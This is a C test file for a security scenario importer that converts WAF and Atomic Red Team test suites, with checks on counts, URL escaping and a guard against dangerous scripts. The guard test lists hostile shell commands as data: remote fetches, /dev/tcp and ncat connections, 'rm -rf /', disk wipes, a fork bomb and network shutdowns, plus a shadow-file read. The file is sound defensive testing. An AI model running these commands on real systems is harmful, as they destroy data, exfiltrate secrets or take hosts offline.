/* Importing scenarios. tests/data/scenario_import/<format>/<case>/: all of `in` is imported, and
 * what comes of it (every scenario with the bytes or commands of its cases, every refusal, the
 * counts) is the text in `expected`. The bytes were checked by hand against
 * what the formats say. */
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/base/file.h"
#include "common/base/mem.h"
#include "common/base/text.h"
#include "common/ext/json.h"
#include "scenarios/import/atomic.h"
#include "scenarios/import/go_url.h"
#include "scenarios/import/import.h"
#include "tests/scenarios/support.h"

#define MAX_NAMES 256

struct result {
    struct scenario_import_report report;
    struct err err;
    int rc;
};

#define RESULT __attribute__((cleanup(result_done))) struct result

static void result_done(struct result *result)
{
    scenario_import_report_done(&result->report);
}

static struct result import(const char *format, const char *path, const char *out)
{
    struct result result = {.rc = 0};
    struct err err = {0};
    const struct import_format *found = scenario_import_format(format, &err);

    cr_assert_not_null(found, "%s", err.text);
    scenario_import_report_init(&result.report);
    result.rc = scenario_import_path(found, path, out, &result.report, &result.err);
    return result;
}

static void add_visible(struct buf *out, const char *bytes, size_t length)
{
    for (size_t i = 0; i < length; i++) {
        unsigned char c = (unsigned char)bytes[i];

        if (c == '\n' || (c >= 0x20 && c < 0x7f)) {
            buf_char(out, (char)c);
        } else {
            buf_printf(out, "\\x%02x", (unsigned)c);
        }
    }
    buf_str_add(out, "\n");
}

static void add_words(struct buf *out, const char *name, const char *const *words)
{
    for (size_t i = 0; words != NULL && words[i] != NULL; i++) {
        buf_printf(out, " %s%s", i == 0 ? name : "", words[i]);
    }
}

static void add_argv(const struct scenario *scenario, struct buf *out, const char *name,
                     const char *const *argv)
{
    buf_printf(out, "== %s\n", name);
    for (; *argv != NULL; argv++) {
        AUTOFREE char *text = text_of(scenario, 0, *argv);

        buf_printf(out, "[%s] ", text);
    }
    buf_str_add(out, "\n");
}

static void add_step(const struct scenario *scenario, size_t step, struct buf *out)
{
    const struct step *at = &scenario->steps[step];

    if (at->kind == STEP_EXEC) {
        add_argv(scenario, out, at->name, at->exec.argv);
        return;
    }
    for (size_t i = 0; i < scenario_case_count(scenario); i++) {
        AUTOBUF struct buf bytes = BUF_INIT;
        struct bindings bindings = test_bindings(NULL);
        struct err err = {0};

        assert_ok(scenario_render_http(scenario, i, &at->http, &bindings, &bytes, &err), err);
        buf_printf(out, "== %s %zu\n", at->name, i + 1);
        add_visible(out, buf_str(&bytes), bytes.length);
    }
}

static void add_scenario(const char *folder, const char *name, struct buf *out)
{
    AUTOFREE char *path = file_join(folder, name);
    AUTO(scenario) scenario = NULL;
    struct err err = {0};

    assert_ok(scenario_load(path, &scenario, &err), err);
    buf_printf(out, "# %s: %s, %s, %s, %s", scenario->id, scenario_kind_name(scenario->kind),
               scenario_proof_name(scenario->proof), scenario->categories[0], scenario->cluster);
    if (scenario->technique != NULL) {
        buf_printf(out, ", %s %s", scenario->technique, scenario->tactic);
    }
    for (size_t i = 0; i < scenario->capec_count; i++) {
        buf_printf(out, " %lld", (long long)scenario->capec[i]);
    }
    add_words(out, "rules ", (const char *const *)scenario->detection.rules);
    add_words(out, "not ", (const char *const *)scenario->detection.not_rules);
    buf_printf(out, "\n%s\n%s\n%s, %s, %s, %s\n", scenario->title, scenario->summary,
               scenario->origin.source, scenario->origin.licence, scenario->origin.file,
               scenario->origin.id);
    for (size_t i = 0; i < scenario->need_count; i++) {
        add_argv(scenario, out, "need", scenario->needs[i].argv);
    }
    for (size_t i = 0; i < scenario->step_count; i++) {
        add_step(scenario, i, out);
    }
    for (size_t i = 0; i < scenario->clean_up_count; i++) {
        add_argv(scenario, out, "clean up", scenario->clean_up[i].exec.argv);
    }
}

static void add_scenarios(const char *folder, struct buf *out)
{
    char **names = NULL;
    size_t count = 0;
    struct err err = {0};

    assert_ok(file_list(folder, MAX_NAMES, &names, &count, &err), err);
    for (size_t i = 0; i < count; i++) {
        add_scenario(folder, names[i], out);
    }
    file_names_free(names, count);
}

/* Paths without the folder in front. */
static void add_report(const struct scenario_import_report *report, const char *folder,
                       struct buf *out)
{
    for (size_t i = 0; i < node_count(report->errors); i++) {
        const struct node *entry = node_at(report->errors, i);
        const char *file = node_get_str(entry, "file", "");

        cr_assert(text_starts(file, folder), "%s", file);
        buf_printf(out, "%s:%lld: %s: %s\n", file + strlen(folder) + 1,
                   (long long)node_get_int(entry, "line", -1), node_get_str(entry, "test", "-"),
                   node_get_str(entry, "why", ""));
    }
    buf_printf(out, "%lld tests in %lld files: %lld converted, %lld payload-only, %lld refused\n",
               (long long)report->tests, (long long)report->files, (long long)report->converted,
               (long long)report->payload_only, (long long)report->refused);
    cr_expect_eq(report->tests, report->converted + report->payload_only + report->refused);
}

static void check_case(const char *format, const char *folder)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *in = file_join(folder, "in");
    AUTOFREE char *expected_path = file_join(folder, "expected");
    AUTOFREE char *expected = support_read(expected_path);
    AUTOBUF struct buf text = BUF_INIT;
    RESULT result = import(format, in, out);

    assert_ok(result.rc, result.err);
    add_scenarios(out, &text);
    add_report(&result.report, in, &text);
    cr_expect_str_eq(buf_str(&text), expected, "%s: got\n%s", folder, buf_str(&text));
}

static void check_format(const char *format)
{
    AUTOFREE char *folder = mem_printf("%s/scenario_import/%s", TEST_DATA_DIR, format);
    char **names = NULL;
    size_t count = 0;
    struct err err = {0};

    assert_ok(file_list(folder, MAX_NAMES, &names, &count, &err), err);
    cr_assert_gt(count, 0);
    for (size_t i = 0; i < count; i++) {
        AUTOFREE char *path = file_join(folder, names[i]);

        check_case(format, path);
    }
    file_names_free(names, count);
}

Test(import, go_ftw_tests_become_what_was_written_down)
{
    check_format("go-ftw");
}

Test(import, gotestwaf_cases_become_what_was_written_down)
{
    check_format("gotestwaf");
}

Test(import, atomic_tests_become_what_was_written_down)
{
    check_format("atomic");
}

Test(import, an_unknown_format_is_refused_with_the_known_ones)
{
    struct err err = {0};

    cr_assert_null(scenario_import_format("ftw", &err));
    assert_err(err, ERR_USAGE,
               "no format 'ftw', expected one of go-ftw, gotestwaf, atomic, har, pcap");
}

Test(import, overwrites_nothing)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *old = file_join(scratch, "old");
    AUTOFREE char *why =
        mem_printf("'%s' is not empty; name a new folder, nothing is overwritten", scratch);

    support_write(old, "mine");
    RESULT result = import("go-ftw", TEST_DATA_DIR "/scenario_import/go-ftw/outputs/in", scratch);
    cr_assert_eq(result.rc, -1);
    assert_err(result.err, ERR_USAGE, why);
    AUTOFREE char *kept = support_read(old);
    cr_assert_str_eq(kept, "mine");
    AUTOFREE char *is_file = mem_printf("'%s' is no folder", old);
    RESULT other = import("go-ftw", TEST_DATA_DIR "/scenario_import/go-ftw/outputs/in", old);
    cr_assert_eq(other.rc, -1);
    assert_err(other.err, ERR_USAGE, is_file);
}

Test(import, what_is_not_there_and_what_holds_nothing_leave_no_folder_behind)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *none = file_join(scratch, "none");
    AUTOFREE char *empty = file_join(scratch, "empty");
    AUTOFREE char *absent = mem_printf("there is no '%s'", none);
    AUTOFREE char *nothing = mem_printf("'%s' holds no file of the format atomic", empty);

    RESULT one = import("go-ftw", none, out);
    cr_assert_eq(one.rc, -1);
    assert_err(one.err, ERR_INPUT, absent);
    cr_assert_not(file_exists(out));
    cr_assert_eq(mkdir(empty, 0755), 0);
    RESULT two = import("atomic", empty, out);
    cr_assert_eq(two.rc, -1);
    assert_err(two.err, ERR_INPUT, nothing);
    cr_assert_not(file_exists(out));
}

/* One file by itself is read whatever it is called, and its origin is its name. */
Test(import, takes_a_file_by_itself)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *in = file_join(scratch, "a 942100 test");
    AUTOFREE char *made = file_join(out, "ftw-942100-1.yaml");
    AUTO(scenario) scenario = NULL;

    support_write(in, "tests: [{stages: [{input: {}, output: {log: {expect_ids: [942100]}}}]}]\n");
    RESULT result = import("go-ftw", in, out);
    assert_ok(result.rc, result.err);
    cr_assert_eq(result.report.payload_only, 1);
    assert_ok(scenario_load(made, &scenario, &result.err), result.err);
    cr_assert_str_eq(scenario->origin.file, "a 942100 test");
}

static void write_many(const char *path, const char *head, const char *line, size_t count)
{
    AUTOBUF struct buf text = BUF_INIT;

    buf_str_add(&text, head);
    for (size_t i = 0; i < count; i++) {
        buf_str_add(&text, line);
    }
    support_write(path, buf_str(&text));
}

Test(import, a_file_that_is_too_large_is_refused_and_the_others_are_read)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *in = file_join(scratch, "in");
    AUTOFREE char *large = file_join(in, "1.yaml");
    AUTOFREE char *good = file_join(in, "2.yaml");
    AUTOFREE char *why = mem_printf("'%s' is larger than 1048576 bytes", large);

    cr_assert_eq(mkdir(in, 0755), 0);
    write_many(large, "#", "1234567\n", SCENARIO_IMPORT_MAX_BYTES / 8);
    support_write(good, "tests: [{stages: [{input: {}, output: {log: {no_expect_ids: [1]}}}]}]\n");
    RESULT result = import("go-ftw", in, out);
    assert_ok(result.rc, result.err);
    cr_assert_eq(result.report.tests, 2);
    cr_assert_eq(result.report.payload_only, 1);
    cr_assert_str_eq(node_get_str(node_at(result.report.errors, 0), "why", ""), why);
}

Test(import, more_tests_than_there_may_be_end_the_import)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *in = file_join(scratch, "in.yaml");

    write_many(in, "rule_id: 1\ntests:\n", "- {}\n", SCENARIO_IMPORT_MAX_TESTS + 1);
    RESULT result = import("go-ftw", in, out);
    cr_assert_eq(result.rc, -1);
    assert_err(result.err, ERR_INPUT, "more than 20000 tests; import them in parts");
    cr_assert_eq(result.report.refused, SCENARIO_IMPORT_MAX_TESTS);
    cr_assert_not(file_exists(out), "half an import stays");
}

/* More payloads than a scenario has cases go into several. */
Test(import, payloads_are_split_over_scenarios)
{
    SUPPORT_FOLDER scratch = support_folder();
    AUTOFREE char *out = file_join(scratch, "out");
    AUTOFREE char *in = file_join(scratch, "xss.yml");
    char **names = NULL;
    size_t count = 0;

    write_many(in, "encoder: [Plain]\nplaceholder: [RequestBody]\npayload:\n", "- a\n", 600);
    RESULT result = import("gotestwaf", in, out);
    assert_ok(result.rc, result.err);
    cr_assert_eq(result.report.payload_only, 600);
    assert_ok(file_list(out, 10, &names, &count, &result.err), result.err);
    cr_assert_eq(count, 3);
    size_t cases = 0;
    for (size_t i = 0; i < count; i++) {
        AUTOFREE char *path = file_join(out, names[i]);
        AUTO(scenario) scenario = NULL;

        assert_ok(scenario_load(path, &scenario, &result.err), result.err);
        cases += scenario_case_count(scenario);
    }
    cr_assert_eq(cases, 600);
    file_names_free(names, count);
}

static char *uri_of(const char *text)
{
    struct buf out = BUF_INIT;
    struct err err = {0};

    assert_ok(go_request_uri(text, &out, &err), err);
    return buf_take(&out);
}

/* By hand from RFC 3986 and what net/url documents of RawPath and EscapedPath. */
Test(go_url, a_path_keeps_a_valid_spelling_and_is_else_written_anew)
{
    static const char *const cases[][2] = {
        {"/a%2Fb%2e", "/a%2Fb%2e"},
        {"/a%2Fb%2e<", "/a/b.%3C"},
        {"/ \"'*()[]!", "/%20%22%27%2A%28%29%5B%5D%21"},
        {"/'*()[]!", "/'*()[]!"},
        {"/a?b <%zz#c", "/a?b <%zz"},
        {"/a#b?c", "/a"},
        {"/%ff\xe6\x97\xa5", "/%FF%E6%97%A5"},
        {"", ""},
    };
    struct err err = {0};
    AUTOBUF struct buf out = BUF_INIT;

    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        AUTOFREE char *got = uri_of(cases[i][0]);

        cr_expect_str_eq(got, cases[i][1], "%s gives %s", cases[i][0], got);
    }
    cr_assert_eq(go_request_uri("/a%4", &out, &err), -1);
    assert_err(err, ERR_INPUT, "'%4' in the path is no escape, so that no request is made of it");
    cr_assert_eq(go_request_uri("/a?\x7f", &out, &err), -1);
    assert_err(err, ERR_INPUT,
               "a URL holds no control character, so that no request is made of it");
}

static int guard(const char *script, struct err *err)
{
    AUTO(atomic_guard) table = NULL;

    assert_ok(atomic_guard_new(&table, err), *err);
    return atomic_guard_check(table, script, err);
}

/* Each row of the table, in a disguise that is still the same command. */
Test(atomic_guard, refuses_what_fetches_reaches_out_or_destroys)
{
    static const char *const refused[] = {
        "x=$(curl example.test)",
        "/usr/bin/wget a",
        "cd /tmp; git clone a",
        "open HTTP://a.test",
        "sudo apt-get update",
        "`pip3 install a`",
        "docker run a",
        "go  install a",
        "exec 3<>/dev/tcp/a.test/80",
        "cat a | ncat b 80",
        "'ssh' a",
        "scp a b:",
        "rm -r -f /",
        "rm -rf /*",
        "rm -f -- \"/usr\"",
        "rm -rf /var/*",
        "chmod -R 777 /",
        "dd if=a bs=1 of=/dev/vda1",
        "cat a >/dev/sda",
        "echo a > \"/dev/mem\"",
        "shred -n 1 /dev/sdb",
        "mkfs.ext4 a",
        "wipefs -a b",
        "sudo reboot",
        "a && poweroff",
        "systemctl --force reboot",
        "init 6",
        "echo b > /proc/sysrq-trigger",
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "kill -9 -1",
        "killall5",
        "ip link set eth0 down",
        "ifconfig eth0 down",
        "ip route flush all",
        "systemctl stop systemd-networkd",
        "iptables -P INPUT DROP",
    };
    static const char *const taken[] = {
        "rm -rf /tmp/x",
        "rm -f /etc/cron.d/evil",
        "cat /etc/shadow > /tmp/a",
        "echo curls > /tmp/a",
        "dd if=/dev/zero of=/tmp/a count=1",
        "id > /dev/null",
        "ls -la .git/",
        "f() { id; }; f | cat &",
        "kill -9 123",
        "systemctl stop cron",
        "shred -u /tmp/a",
        "ip addr show",
        "chmod -R 777 /tmp/a",
        "",
    };

    for (size_t i = 0; i < COUNT_OF(refused); i++) {
        struct err err = {0};

        cr_expect_eq(guard(refused[i], &err), -1, "'%s' is let through", refused[i]);
        cr_expect(text_starts(err.text, "refused: it "), "%s", err.text);
    }
    for (size_t i = 0; i < COUNT_OF(taken); i++) {
        struct err err = {0};

        cr_expect_eq(guard(taken[i], &err), 0, "'%s' is refused: %s", taken[i], err.text);
    }
}

Test(atomic_guard, says_what_it_saw)
{
    struct err err = {0};

    cr_assert_eq(guard("id\n  (curl -s http://a.test/b)\nls", &err), -1);
    assert_err(err, ERR_INPUT, "refused: it downloads: 'curl -s http://a.test/b)'");
}

Test(atomic_tactic, a_sub_technique_has_its_techniques_tactic)
{
    cr_assert_str_eq(atomic_tactic("T1003"), "credential-access");
    cr_assert_str_eq(atomic_tactic("T1003.008"), "credential-access");
    cr_assert_str_eq(atomic_tactic("T1529"), "impact");
    cr_assert_null(atomic_tactic("T100"));
    cr_assert_null(atomic_tactic("T1002"));
    cr_assert_null(atomic_tactic(""));
}
